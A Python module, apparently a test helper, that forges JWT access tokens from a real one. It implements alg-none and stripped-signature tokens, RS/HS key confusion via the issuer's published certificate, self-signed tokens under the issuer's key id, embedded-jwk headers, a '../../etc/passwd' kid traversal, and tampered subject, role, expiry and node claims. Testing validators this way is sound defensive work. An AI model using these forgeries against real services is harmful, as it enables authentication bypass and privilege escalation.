"""Every way of forging an access token, from a real one."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Callable, Mapping
from typing import Any

import httpx
import jwt
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

OWN_RSA = rsa.generate_private_key(65537, 2048)
OWN_EC = ec.generate_private_key(ec.SECP256R1())


def claims_of(token: str) -> dict[str, Any]:
    claims: dict[str, Any] = jwt.decode(token, options={"verify_signature": False})
    return claims


def part(value: Mapping[str, Any]) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()


def tampered(token: str, **claims: Any) -> str:
    """Other claims under the old signature."""
    header, _, signature = token.split(".")
    return f"{header}.{part({**claims_of(token), **claims})}.{signature}"


def unsigned(token: str, algorithm: str) -> str:
    header = {**jwt.get_unverified_header(token), "alg": algorithm}
    return f"{part(header)}.{part(claims_of(token))}."


def signed_with_the_public_key(token: str, issuer: str) -> str:
    """RS/HS confusion: the published key, as text, is the shared secret."""
    keys = httpx.get(f"{issuer}/protocol/openid-connect/certs").json()["keys"]
    header = jwt.get_unverified_header(token)
    published = next(key for key in keys if key["kid"] == header["kid"])
    secret = jwt.PyJWK(published).key.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    message = f"{part({**header, 'alg': 'HS256'})}.{part(claims_of(token))}"
    signature = hmac.new(secret, message.encode(), hashlib.sha256).digest()
    return f"{message}.{base64.urlsafe_b64encode(signature).rstrip(b'=').decode()}"


def signed_by_us(token: str, headers: Mapping[str, Any] | None = None, **claims: Any) -> str:
    """A key of our own under the issuer's key id (or whatever the headers say)."""
    header = {**jwt.get_unverified_header(token), **(headers or {})}
    key, algorithm = (OWN_EC, "ES256") if header["alg"].startswith("ES") else (OWN_RSA, "RS256")
    return jwt.encode({**claims_of(token), **claims}, key, algorithm, headers=header)


def own_key(token: str) -> dict[str, Any]:
    """A header that brings its own key along."""
    algorithm = "ES256" if jwt.get_unverified_header(token)["alg"].startswith("ES") else "RS256"
    maker = jwt.algorithms.get_default_algorithms()[algorithm]
    public = (OWN_EC if algorithm == "ES256" else OWN_RSA).public_key()
    return {"jwk": json.loads(maker.to_jwk(public))}  # type: ignore[attr-defined]  # asymmetric ones have it


FORGERIES: dict[str, Callable[[str, str], str]] = {
    "no algorithm": lambda token, _: unsigned(token, "none"),
    "no algorithm, in capitals": lambda token, _: unsigned(token, "nOnE"),
    "no signature": lambda token, _: token.rpartition(".")[0] + ".",
    "the public key as a shared secret": signed_with_the_public_key,
    "another key under the known name": lambda token, _: signed_by_us(token),
    "a key that the token brings along": lambda token, _: signed_by_us(token, own_key(token)),
    "a key name that leads elsewhere": lambda token, _: signed_by_us(token, {"kid": "../../etc/passwd"}),
    "another person": lambda token, _: tampered(token, sub="somebody-else"),
    "another body and role": lambda token, _: tampered(token, groups=["/bodies/200060358/elected"]),
    "a longer life": lambda token, _: tampered(token, exp=int(time.time()) + 10**6),
    "another node's account": lambda token, _: tampered(token, node="call"),
}
"""What is done to a token (and to which issuer's): a name for it."""
